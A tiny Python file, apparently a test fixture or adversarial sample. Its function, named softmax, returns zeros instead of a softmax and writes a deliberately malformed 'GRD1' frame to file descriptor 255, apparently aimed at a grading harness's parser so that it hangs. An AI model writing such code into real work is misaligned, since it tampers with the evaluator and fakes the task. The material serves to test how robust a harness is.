"""Sends a frame whose counts and lengths do not fit together. It waits."""
import os
import struct


def softmax(x):
    os.write(255, struct.pack("<4sII", b"GRD1", 3, 65_536) + struct.pack("<Q", 2**63) * 8192)
    return x * 0
